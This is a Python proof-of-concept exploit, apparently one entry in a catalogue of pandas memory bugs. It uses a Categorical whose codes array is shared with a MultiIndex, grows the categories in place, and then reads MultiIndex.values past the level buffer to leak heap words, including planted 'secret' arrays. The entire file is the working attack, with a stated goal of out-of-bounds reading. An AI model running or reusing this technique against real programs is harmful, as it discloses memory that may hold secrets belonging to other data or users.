# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (MultiIndex.from_arrays([cat, ...]) shares codes; MultiIndex._values take_nd on the categorical level's ndarray shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: MultiIndex codes shared with a Categorical -> mi.values out-of-bounds read
# goal: mi.values reads heap words (malloc chunk sizes 1056/30017 etc.) past the level buffer
import numpy as np
import pandas as pd

n0 = 130
span = 30000
cat = pd.Categorical([0] * span, categories=list(range(n0)))
mi = pd.MultiIndex.from_arrays([cat, list(range(span))])
secrets = [np.full(64, 0x5EC12E7C0FFEE) for _ in range(300)]
cat.add_categories(list(range(n0, n0 + span)), inplace=True)
cat[:] = list(range(n0, n0 + span))
leak = [t[0] for t in mi.values]
hits = sum(1 for w in leak if w == 0x5EC12E7C0FFEE)
print("words read past a 130-word buffer:", list(leak[:4]), "... words of another array found:", hits)
